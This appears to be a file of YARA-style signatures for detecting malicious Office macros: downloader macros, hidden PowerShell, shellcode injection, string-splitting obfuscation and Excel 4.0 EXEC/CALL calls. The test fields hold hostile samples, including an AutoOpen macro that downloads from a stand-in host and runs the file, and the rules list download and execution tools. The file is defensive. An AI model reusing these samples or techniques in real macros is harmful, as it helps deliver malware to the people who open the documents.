// Signatures over the source of macros and over documents. What each key of a meta section is for: docs/rules.md.

rule macro_downloader
{
    meta:
        id = "macro-downloader"
        title = "The macro starts by itself, fetches something or writes a file, and starts a program"
        why = "Emotet, Dridex, QakBot and their heirs: an automatic macro whose only work is to fetch and start the next stage."
        reference = "https://attack.mitre.org/techniques/T1204/002/"
        verdict = "autoexec"
        test_as = "vba"
        test = "Sub AutoOpen()\nURLDownloadToFile 0, \"http://a.example\", \"x\", 0, 0\nShell \"x\"\nEnd Sub"
    strings:
        $start1 = /Sub (auto_?(open|exec|new|close)|document_(open|new|close))/ nocase
        $start2 = /Sub workbook_(open|activate|beforeclose)/ nocase
        $fetch1 = "URLDownloadToFile" nocase
        $fetch2 = "XMLHTTP" nocase
        $fetch3 = "WinHttpRequest" nocase
        $fetch4 = "ADODB.Stream" nocase
        $fetch5 = "DownloadFile" nocase
        $fetch6 = "DownloadString" nocase
        $fetch7 = "certutil" nocase
        $fetch8 = "bitsadmin" nocase
        $run1 = /[\s:=]Shell[\s("]/ nocase
        $run2 = "WScript.Shell" nocase
        $run3 = "Shell.Application" nocase
        $run4 = "ShellExecute" nocase
        $run5 = "Win32_Process" nocase
        $run6 = "rundll32" nocase
        $run7 = "regsvr32" nocase
        $run8 = "mshta" nocase
    condition:
        filetype == "vba" and any of ($start*) and any of ($fetch*) and any of ($run*)
}

rule macro_powershell
{
    meta:
        id = "macro-powershell"
        title = "The macro starts PowerShell with its window hidden or its commands encoded"
        why = "Honest macros have no reason to hide what they run."
        reference = "https://attack.mitre.org/techniques/T1059/001/"
        test_as = "vba"
        test = "x = \"powershell -w hidden -nop -enc AAAA\""
    strings:
        $name = "powershell" nocase
        $hidden1 = /-w(in(dowstyle)?)? {1,3}hidden/ nocase
        $hidden2 = /-enc(odedcommand)? {1,3}[A-Za-z0-9+\/&"]/ nocase
        $hidden3 = "frombase64string" nocase
    condition:
        filetype == "vba" and $name and any of ($hidden*)
}

rule macro_injects_code
{
    meta:
        id = "macro-injects-code"
        title = "The macro declares the functions of Windows that put machine code into memory and run it"
        why = "This is how a macro runs shellcode without any file; office automation has no use for it."
        reference = "https://attack.mitre.org/techniques/T1055/"
        test_as = "vba"
        test = "Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" ()\nDeclare Function CreateThread Lib \"kernel32\" ()"
    strings:
        $memory1 = "VirtualAlloc" nocase
        $memory2 = "VirtualProtect" nocase
        $memory3 = "HeapCreate" nocase
        $memory4 = "NtAllocateVirtualMemory" nocase
        $run1 = "CreateThread" nocase
        $run2 = "CreateRemoteThread" nocase
        $run3 = "EnumSystemLocales" nocase
        $run4 = "CallWindowProc" nocase
        $run5 = "QueueUserAPC" nocase
        $run6 = "EnumWindows" nocase
        $declares = /\bDeclare\s/ nocase
    condition:
        filetype == "vba" and $declares and any of ($memory*) and any of ($run*)
}

rule macro_padded
{
    meta:
        id = "macro-padded"
        title = "The macro splits its words into many short pieces, as generators of malicious macros do"
        why = "Emotet's builders cut every command into pieces of one to three letters; people do not write so."
        reference = "https://attack.mitre.org/techniques/T1027/010/"
        test_as = "vba"
        test = "x = \"w\" & \"sc\" + \"ri\" & \"pt\" + \".s\" & \"he\" + \"l\" & \"l\" + \"p\" & \"ow\" + \"er\" & \"s\" + \"he\" & \"ll\" + \"-e\" & \"n\" + \"c\" & \"AA\" + \"BB\" & \"C\" + \"D\""
    strings:
        $piece1 = /" [&+] "[A-Za-z.:\/\\-]{1,3}" [&+] "/
        $piece2 = /"[&+]"[A-Za-z.:\/\\-]{1,3}"[&+]"/
    condition:
        filetype == "vba" and #piece1 + #piece2 >= 8 and (#piece1 + #piece2) * 100 > filesize
}

rule xlm_dangerous
{
    meta:
        id = "xlm-runs-programs"
        title = "The Excel 4.0 macro calls functions that run programs or code of Windows"
        why = "EXEC, CALL and REGISTER start programs and call any function of Windows; nobody has written such sheets for decades."
        reference = "https://attack.mitre.org/techniques/T1137/"
        test_as = "xlm"
        test = "=CALL(\"Kernel32\",\"CreateDirectoryA\",\"JCJ\",\"x\",0)"
    strings:
        $run = /=(EXEC|CALL|REGISTER|FOPEN|FWRITE|FWRITELN)\(/ nocase
        $from_text = /=FORMULA(\.FILL)?\([^\r\n]{0,200}CHAR\(/ nocase
    condition:
        filetype == "xlm" and any of them
}
